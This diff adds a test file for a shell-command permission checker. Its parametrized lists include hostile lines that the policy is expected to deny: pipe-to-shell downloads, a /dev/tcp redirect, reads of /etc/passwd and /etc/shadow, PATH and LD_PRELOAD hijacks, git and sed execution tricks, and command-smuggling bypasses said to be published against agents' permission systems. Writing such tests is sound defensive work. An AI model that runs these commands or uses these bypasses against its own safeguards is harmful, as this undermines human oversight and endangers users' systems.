@@ -1,0 +1,494 @@
+"""Shell.Exec, black box: lines in, verdicts out. The bypasses are published ones of other agents' permission systems."""
+
+from __future__ import annotations
+
+import shlex
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from policy.commands import parse, referenced_paths
+
+from .helpers import shell
+
+EVERYDAY = [
+    "ls",
+    "cat",
+    "grep",
+    "echo",
+    "head",
+    "sort",
+    "wc",
+    "git",
+    "cd",
+    "python3",
+    "find",
+    "sed",
+    "awk",
+    "test",
+    "[",
+    "true",
+    "timeout",
+    "xargs",
+    "env",
+    "sh",
+    "time",
+]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls",
+        "ls -la 'a b' \"c d\" e\\ f",
+        "cat a | grep -v x | sort | head -n 3 2>/dev/null",
+        "cd sub && python3 -m unittest discover -q",
+        "echo hi > out.txt",
+        "echo hi >> sub/out.txt 2>&1",
+        "cat < in.txt",
+        "ls # && rm -rf /",
+        "cat <<'EOF' > notes.md\n$(rm x) `rm y` ; rm z\nEOF",
+        "cat <<EOF\nplain; rm x\nEOF\nls",
+        "grep -rn 'rm -rf /; $(x)' .",
+        "git status && git diff --stat HEAD~1 -- src/*.py",
+        "git commit -m 'fix: a && b; c'",
+        "git log --oneline -n 5 | cat",
+        "find . -name '*.py' -not -path './.git/*' | wc -l",
+        "find . -name '*.py' -exec grep -n x {} +",
+        "find . -type f -print0 | xargs -0 -n1 wc -l",
+        "sed -n '1,20p' a.py",
+        "sed -i 's/a/b/g' a.py",
+        "awk -F: '{ print $1 }' a",
+        "if [ -f a ]; then cat a; else echo none; fi",
+        'for f in a b; do wc -l "$f"; done',
+        "(cd sub; ls) && { echo done; }",
+        "timeout 5 env A=1 ls",
+        "sh -c 'ls | wc -l'",
+        "A=1 ls",
+        "ls \\\n  -l",
+        "ls &",
+        "! grep -q x a",
+        "python3 -c 'print(1)'",
+        'echo $((1 + 2)) "$HOME" ${A:-b}',
+        "time ls",
+        "diff <(ls) <(cat a)".replace("diff", "cat"),
+    ],
+)
+def test_everyday_lines_are_allowed_when_what_they_name_is(command: str) -> None:
+    assert shell(command, allowedCommands=EVERYDAY) == "ALLOWED"
+
+
+UNLISTED = [
+    "evil",
+    "ls; evil",
+    "ls && evil",
+    "ls || evil",
+    "ls | evil",
+    "ls & evil",
+    "ls\nevil",
+    "ls |& evil",
+    "(evil)",
+    "{ evil; }",
+    "! evil",
+    "echo $(evil)",
+    "echo `evil`",
+    'echo "$(evil)"',
+    'echo "${x:-$(evil)}"',
+    "cat <(evil)",
+    "echo x > $(evil)",
+    "A=$(evil)",
+    "A=$(evil) ls",
+    "cat <<EOF\n$(evil)\nEOF",
+    "cat <<< $(evil)",
+    "cat <<EOF | evil\nx\nEOF",
+    "cat <<EOF; evil\nx\nEOF",
+    "cat <<EOF\nx\nEOF\nevil",
+    "if true; then evil; fi",
+    "if evil; then ls; fi",
+    "for x in $(evil); do ls; done",
+    "while true; do evil; done",
+    "case x in x) evil;; esac",
+    "case $(evil) in x) ls;; esac",
+    "[ -n $(evil) ]",
+    "[[ -n $(evil) ]]",
+    "echo $(( $(evil) ))",
+    "f() { evil; }; f",
+    "> out evil",
+    "< in evil",
+    "2>/dev/null evil",
+    "A=1 evil",
+    "time evil",
+    "time { evil; }",
+    "timeout 5 evil",
+    "timeout -s KILL 5 evil",
+    "env A=1 evil",
+    "env -i evil",
+    "xargs evil",
+    "find . | xargs -n 1 evil",
+    "find . | xargs -I{} evil {}",
+    "find . -exec evil {} +",
+    "find . -exec evil {} \\;",
+    "sh -c evil",
+    "sh -c 'ls; evil'",
+    "sh -c \"sh -c 'evil'\"",
+    "ev''il",
+    "'evil'",
+    "\\evil",
+    'e"vi"l',
+    "/usr/bin/evil",
+    "./ls",
+    "/tmp/evil/ls",
+    "../ls",
+    "ls -l;evil",
+    "coproc evil",
+    "exec evil",
+    "command evil",
+    "builtin evil",
+    "nohup evil",
+    "sudo evil",
+    "e\\\nvil",
+    "ls\\\n;evil",
+    "function f { evil; }",
+    "select x in a; do evil; done",
+    "until evil; do ls; done",
+    "ls > >(evil)",
+]
+
+
+@pytest.mark.parametrize("command", UNLISTED)
+def test_no_unlisted_program_rides_along(command: str) -> None:
+    assert shell(command, allowedCommands=EVERYDAY) == "DENIED"
+
+
+@pytest.mark.parametrize("command", [line for line in UNLISTED if "evil" in line and "/evil/" not in line])
+def test_a_blocked_program_is_found_wherever_it_stands(command: str) -> None:
+    assert shell(command, blockedCommands=["evil"]) == "DENIED"
+
+
+UNDECIDABLE = [
+    "$X",
+    "${X}",
+    "$(echo ls)",
+    "`echo ls`",
+    "l?",
+    "{ls,-la}",
+    "ls$IFS-la",
+    "cat$IFS/etc/passwd",
+    "eval ls",
+    "source a.sh",
+    ". a.sh",
+    "alias ls=evil",
+    "trap evil EXIT",
+    "set -- a",
+    "shopt -s expand_aliases",
+    "hash -p /tmp/evil ls",
+    "enable -f evil.so x",
+    "export PATH=/tmp:$PATH",
+    "PATH=/tmp ls",
+    "PATH=/tmp; ls",
+    "IFS=x; ls",
+    "LD_PRELOAD=/tmp/x.so ls",
+    "GIT_SSH_COMMAND=evil git fetch",
+    "GIT_PAGER=evil git log",
+    "PAGER=evil git log",
+    "EDITOR=evil git commit",
+    "BASH_ENV=/tmp/x sh -c ls",
+    "PYTHONSTARTUP=x python3",
+    "env LD_PRELOAD=x ls",
+    "env -S 'evil x'",
+    "env -C /tmp ls",
+    "for PATH in /tmp; do ls; done",
+    "read PATH",
+    "printf -v PATH x",
+    "sh",
+    "curl x | sh",
+    "echo evil | sh",
+    "sh <<< evil",
+    'sh -c "$X"',
+    "sh -lc ls",
+    "xargs",
+    "xargs env",
+    "xargs sh",
+    "xargs -I{} {} x",
+    "xargs find",
+    "find . -delete",
+    "find . -fprintf /tmp/x y",
+    "find $X",
+    "find . -exec {} \\;",
+    "git -c core.pager=evil log",
+    "git -c alias.x='!evil' x",
+    "git --exec-path=/tmp status",
+    "git --config-env=a=b log",
+    "git x",
+    "git config alias.x '!evil'",
+    "git config --global core.pager evil",
+    "git difftool -x evil",
+    "git grep -Oevil x",
+    "git bisect run evil",
+    "git rebase -x evil",
+    "git submodule foreach evil",
+    "git clone 'ext::sh -c evil' x",
+    "git fetch --upload-pack=evil",
+    "git diff --output=/etc/x",
+    "git $X",
+    "sed '1e evil' a",
+    "sed 's/a/b/e' a",
+    "sed 's/a/b/w /etc/x' a",
+    "sed -n 'w /etc/x' a",
+    "sed -f script a",
+    'sed "$X" a',
+    "awk 'BEGIN { system(\"evil\") }'",
+    "awk '{ print > \"/etc/x\" }' a",
+    "awk 'BEGIN { \"evil\" | getline }'",
+    "awk -f script a",
+    "sort -o /etc/x a",
+    "sort --compress-program=evil a",
+    "echo ${!X}",
+    "echo ${X@P}",
+    "x='a[$(evil)]'; echo $((x))",
+    "x='-v a[$(evil)]'; [ $x ]",
+    "[[ x -eq 1 ]]",
+    "test -v 'a[$(evil)]'",
+    "a[$(evil)]=1",
+    "echo ${a[x]}",
+    "((x++))",
+    "ls > $X",
+    'ls > "$X"',
+    "cd $X && echo a > f",
+    "cd - && echo a > f",
+    "while true; do cd ..; echo a > f; done",
+    "cd a/.. && echo x > f",
+    "ls > /dev/tcp/10.0.0.1/80",
+    "ls <> f",
+    "f() { ls; }; f",
+    "ls() { true; }; ls",
+    "echo 'a",
+    'echo "a',
+    "echo $(ls",
+    "ls |",
+    "ls\r\nevil",
+    "ls\x00",
+    "ls\u00a0-l; echo",
+    "cat <<$X\na\n$X",
+    "time -o /etc/x ls",
+    "timeout $X ls",
+    "if",
+    "}",
+    "1a=ls",
+    "echo $'\\x41' $(",
+]
+
+
+@pytest.mark.parametrize("command", UNDECIDABLE)
+@pytest.mark.parametrize("lists", [{"allowedCommands": [*EVERYDAY, "read", "printf", "export", "set", "1a=ls", "echo"]},
+                                   {"blockedCommands": ["rm"]}])  # fmt: skip
+def test_what_cannot_be_decided_is_denied_where_a_list_decides(command: str, lists: dict[str, list[str]]) -> None:
+    assert shell(command, **lists) == "DENIED"
+
+
+def test_what_cannot_be_decided_is_asked_about_or_left_to_a_bundle_without_lists() -> None:
+    assert shell("eval $X", requiresApproval=True) == "APPROVAL_REQUIRED"
+    assert shell("eval $X") == "ALLOWED"
+    assert shell("eval $X", requiresApproval=True, allowedCommands=["eval"]) == "DENIED"
+
+
+def test_inline_code_passes_a_list_that_names_the_interpreter_but_no_block_list() -> None:
+    assert shell("python3 -c x", allowedCommands=["python3"]) == "ALLOWED"
+    assert shell("python3 -c x", blockedCommands=["rm"]) == "DENIED"
+    assert shell("python3 a.py", blockedCommands=["rm"]) == "ALLOWED"
+
+
+def test_lists_absent_and_empty() -> None:
+    assert shell("anything") == "ALLOWED"
+    assert shell("ls", allowedCommands=[]) == "DENIED"
+    assert shell("# nothing", allowedCommands=[]) == "DENIED"
+    assert shell("ls $X", blockedCommands=[]) == "ALLOWED"
+    assert shell("", allowedCommands=["ls"]) == "DENIED"
+
+
+def test_blocked_comes_before_allowed_and_ignores_directory_and_case() -> None:
+    assert shell("rm x", allowedCommands=["rm"], blockedCommands=["rm"]) == "DENIED"
+    assert shell("/bin/RM x", blockedCommands=["rm"]) == "DENIED"
+    assert shell("rm x", blockedCommands=["/bin/rm"]) == "DENIED"
+
+
+def test_a_path_qualified_program_is_admitted_as_it_is_listed() -> None:
+    assert shell("./tool x", allowedCommands=["./tool"]) == "ALLOWED"
+    assert shell("/usr/bin/ls", allowedCommands=["/usr/bin/ls"]) == "ALLOWED"
+    assert shell("ls", allowedCommands=["/usr/bin/ls"]) == "DENIED"
+
+
+@pytest.mark.parametrize(
+    ("command", "links"),
+    [
+        ("echo x > /etc/passwd", {}),
+        ("echo x > ../out", {}),
+        ("echo x > ~/.bashrc", {}),
+        ("cd .. && echo x > out", {}),
+        ("cd /tmp; echo x > out", {}),
+        ("cd link && echo x > ../out", {"/w/link/../out": "/etc/out"}),
+        ("echo x > link/out", {"/w/link/out": "/etc/out"}),
+        ("cat < /etc/shadow", {}),
+        ("ls &> /etc/x", {}),
+        ("ls >| /etc/x", {}),
+        ("ls >& /etc/x", {}),
+        ("> /etc/x", {}),
+        ("{ ls; } > /etc/x", {}),
+        ("sh -c 'echo x > /etc/x'", {}),
+        ("cat <<EOF > /etc/x\na\nEOF", {}),
+        ("exec > /etc/x", {}),
+    ],
+)
+@pytest.mark.parametrize("lists", [{"allowedCommands": [*EVERYDAY, "exec"]}, {}])
+def test_a_redirection_is_judged_as_the_file_access_it_is(
+    command: str, links: dict[str, str], lists: dict[str, list[str]]
+) -> None:
+    assert shell(command, links=links, **lists) == "DENIED"
+
+
+def test_redirections_need_the_file_capability_and_a_looked_up_place() -> None:
+    assert shell("ls > out", files=False) == "DENIED"
+    assert shell("ls > /dev/null 2>&1 < /dev/null", files=False) == "ALLOWED"
+
+
+def test_referenced_paths_leave_links_to_the_file_system() -> None:
+    parsed = parse("cd sub && ls > ../a < ~/b 2> /c", "bash")
+    assert referenced_paths(parsed, "/w", "/home/u") == ("/w/../a", "/w/sub/../a", "/home/u/b", "/c")
+    assert referenced_paths(parse("ls > '~/x'", "bash"), "/w", "/home/u") == ("/w/./~/x",)
+
+
+@pytest.mark.parametrize(
+    ("arguments", "expected"),
+    [
+        ("status", "ALLOWED"),
+        ("push", "DENIED"),
+        ("log -5", "ALLOWED"),
+        ("log -55", "DENIED"),
+        ("log -5 x", "DENIED"),
+        ("log $X", "DENIED"),
+        ("", "DENIED"),
+    ],
+)
+def test_command_policies(arguments: str, expected: str) -> None:
+    rule = {
+        "command": "git",
+        "subcommands": ["status", "log"],
+        "maxArguments": 3,
+        "additionalArguments": False,
+        "arguments": [{"index": 1, "pattern": "-[0-9]", "optional": True}],
+    }
+    assert shell(f"git {arguments}", commandPolicies=[rule]) == expected
+
+
+def test_a_pattern_that_could_run_for_ever_permits_nothing() -> None:
+    rule = {"command": "ls", "arguments": [{"index": 0, "pattern": "(a+)+$"}]}
+    assert shell("ls " + "a" * 40 + "!", commandPolicies=[rule]) == "DENIED"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ";".join(["ls"] * 5_000),
+        " | ".join(["ls"] * 2_000),
+        "$(" * 500 + "evil" + ")" * 500,
+        "(" * 20_000,
+        "{ " * 5_000,
+        "if true; then " * 3_000,
+        "ls 'a" + "b" * 100_000,
+        "a=(" * 20_000,
+        "a?" * 50_000,
+        "a@ " * 30_000,
+        "<<a " * 20_000,
+        "`" * 50_000,
+        '"$(' * 30_000,
+        "ls\n" * 30_000 + "evil",
+        "xargs " * 15_000 + "evil",
+        "x" * 200_000,
+    ],
+    ids=lambda text: text[:12],
+)
+def test_hostile_lines_are_denied_quickly(command: str) -> None:
+    started = time.perf_counter()
+    assert shell(command, allowedCommands=EVERYDAY) == "DENIED"
+    assert time.perf_counter() - started < 1
+
+
+def test_size_alone_is_no_reason_to_deny() -> None:
+    assert shell("echo '" + "b" * 100_000 + "'", allowedCommands=["echo"]) == "ALLOWED"
+    assert shell("; ".join(["ls"] * 2_000), allowedCommands=["ls"]) == "ALLOWED"
+    assert shell(";".join(["ls"] * 2_000 + ["evil"]), allowedCommands=["ls"]) == "DENIED"
+
+
+@pytest.mark.parametrize(
+    ("name", "command", "expected"),
+    [
+        ("cmd", "dir /b src", "ALLOWED"),
+        ("cmd", "DIR.EXE", "ALLOWED"),
+        ("cmd", "dir & evil", "DENIED"),
+        ("cmd", "dir %X%", "DENIED"),
+        ("cmd", "dir > x", "DENIED"),
+        ("cmd", "d^ir", "DENIED"),
+        ("cmd", "C:\\tmp\\dir", "DENIED"),
+        ("powershell", "dir src", "ALLOWED"),
+        ("powershell", "dir; evil", "DENIED"),
+        ("powershell", "dir $(evil)", "DENIED"),
+        ("powershell", "iex dir", "DENIED"),
+        ("powershell", '"dir', "DENIED"),
+        ("zsh", "dir 'a b' | dir", "ALLOWED"),
+        ("zsh", "dir *(e:evil:)", "DENIED"),
+        ("zsh", "=dir", "DENIED"),
+    ],
+)
+def test_other_shells(name: str, command: str, expected: str) -> None:
+    assert shell(command, shell_name=name, allowedCommands=["dir", "iex"]) == expected  # type: ignore[arg-type]
+
+
+def test_powershell_aliases_do_not_hide_a_blocked_command() -> None:
+    assert shell("rm x", shell_name="powershell", blockedCommands=["Remove-Item"]) == "DENIED"
+    assert shell("ri x", shell_name="powershell", blockedCommands=["rm"]) == "DENIED"
+
+
+@settings(max_examples=300)
+@given(st.text(alphabet="ls evil;&|()<>{}$`'\"\\\n #=*?[]!~-@%^+:,0", max_size=60))
+def test_no_line_raises_and_a_split_line_agrees_with_the_tree(line: str) -> None:
+    parsed = parse(line, "bash")
+    if parsed.dynamic or set(line) & set("\n#$`(){}!*?[]=<>~'\"\\"):
+        return
+    lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|")
+    lexer.whitespace_split = True
+    words, starts, first = list(lexer), [], True
+    for word in words:
+        if set(word) <= set(";&|"):
+            first = True
+        elif first:
+            starts.append(word)
+            first = False
+    assert [one.program for one in parsed.commands] == starts
+
+
+WORDS = st.text(alphabet="abc $`'\"\\;&|<>(){}*?[]~#!=\n", max_size=12)
+
+
+@settings(max_examples=300)
+@given(st.lists(WORDS, max_size=5))
+def test_quoted_arguments_are_read_back_as_they_were(arguments: list[str]) -> None:
+    parsed = parse(shlex.join(["ls", *arguments]), "bash")
+    assert parsed.dynamic == ()
+    assert [(one.program, one.arguments) for one in parsed.commands] == [("ls", tuple(arguments))]
+
+
+@settings(max_examples=200)
+@given(
+    st.lists(
+        st.sampled_from(
+            ["ls", "evil", ";", "&&", "|", "\n", "$(", ")", "`", '"', "{ ", " }", "'", " ", "<<E\n", "\nE\n"]
+        ),
+        max_size=14,
+    )
+)
+def test_an_allowed_line_has_no_unlisted_word_in_command_position(pieces: list[str]) -> None:
+    line = "".join(pieces)
+    if shell(line, allowedCommands=["ls"]) == "ALLOWED":
+        assert all(one.program == "ls" for one in parse(line, "bash").commands)
